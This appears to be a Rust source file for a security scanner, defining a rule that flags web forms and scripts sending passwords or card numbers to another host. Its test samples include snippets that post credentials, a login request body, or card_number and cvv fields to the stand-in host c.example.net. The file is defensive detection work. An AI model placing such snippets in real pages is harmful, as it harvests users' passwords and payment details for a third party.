//! Forms that a script sends: elsewhere than the page says, or without anybody's doing.

use super::{Rule, page::foreign};
use crate::guard::{fact::Call, found::Found, value::Value, verdict::Severity};

pub static PHISHING: Rule = Rule {
    id: "page-phishing-form",
    severity: Severity::Block,
    why: "the form asks for secrets and sends them to another site",
    remedy: "post the form to the app's own server",
    finds: &[
        (
            "x.jsx",
            "const go = () => fetch('https://c.example.net/in', { method: 'POST', body: JSON.stringify({ password: pw }) }); export const F = () => <input type=\"password\" />;",
        ),
        (
            "x.html",
            "<form action=\"https://c.example.net/l.php\" method=post><input name=u><input type=password name=p></form>",
        ),
        (
            "x.html",
            "<form id=f><input type=password></form><script>const u = new URL(location); u.host = at(); f.action = u;</script>",
        ),
        (
            "x.js",
            "app.post('/in', async (req, res) => { const { password } = req.body; await bcrypt.compare(password, h); fetch('https://c.example.net', { body: JSON.stringify(req.body) }); });\nimport bcrypt from 'bcrypt';",
        ),
        ("x.html", "<form><input type=password><button formaction=\"//c.example.net/\">in</button></form>"),
        ("x.html", "<form action=https://c.example.net><input name=card_number><input name=cvv></form>"),
    ],
    spares: &[
        (
            "x.jsx",
            "const go = () => fetch('/login', { method: 'POST', body: JSON.stringify({ password: pw }) }); export const F = () => <input type=\"password\" />;",
        ),
        ("x.html", "<form action=\"/login\" method=post><input type=password></form>"),
        ("x.html", "<form action=\"https://formspree.io/f/x\"><input type=email name=email></form>"),
    ],
};

/// A form that asks for a secret is sent, by a script, to an address whose host the script has changed.
pub(super) fn assign(path: &str, value: &Value, line: usize, found: &mut Found<'_>) {
    let action = path.ends_with(".action") || path.ends_with(".formAction");
    let own = value.known().is_some_and(|text| foreign(text).is_none());
    if action && !own {
        found.moved.form = Some(line);
    } else if path.starts_with("URL()") && (path.ends_with(".hostname") || path.ends_with(".host")) {
        found.moved.host = true;
    }
    if found.asks_secret
        && found.moved.host
        && let Some(line) = found.moved.form.take()
    {
        found.add(&PHISHING, line, "what the form asks for goes to a host that a script puts in");
    }
}

/// A form that somebody else's site is sent by itself, before a visitor has read it.
pub(super) fn call(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
    if matches!(call.method(), "submit" | "requestSubmit") && call.args.is_empty() && !call.python {
        found.moved.sent = Some(line);
        sent(found);
    }
}

/// Fields that nobody sees are sent to another site.
pub(super) fn sent(found: &mut Found<'_>) {
    if found.moved.hidden
        && let Some(line) = found.moved.sent.take()
    {
        found.add(&PHISHING, line, "a form of hidden fields is sent to another site by itself");
    }
}
